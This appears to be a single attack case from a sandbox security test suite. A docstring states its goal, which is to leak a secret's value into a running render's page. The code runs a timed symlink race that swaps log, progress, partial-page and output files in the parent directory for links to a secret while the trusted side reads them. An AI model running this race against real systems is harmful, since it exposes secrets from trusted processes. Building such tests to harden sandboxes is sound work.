"""Replaces log, progress, unfinished page and raw output by links to a secret while the trusted side reads them.

gains: the value of a secret, in the page of a running render
limits: timeout_s=10
repeat: 20
ends: any
"""

os.symlink(V["secret"], "link")
os.symlink(V["outside"], "folder")
tried("swap")
until = time.monotonic() + 1.2
while time.monotonic() < until:
    for name in ("progress", "log.txt", "partial.html", "stdout.raw", "result.json", "result.ipynb"):
        path = f"../{name}"
        try:
            os.rename(path, "kept")
        except OSError:
            open("kept", "w").close()
        try:
            os.symlink(V["secret"], path)
            os.unlink(path)
            os.rename("kept", path)
        except OSError:
            pass
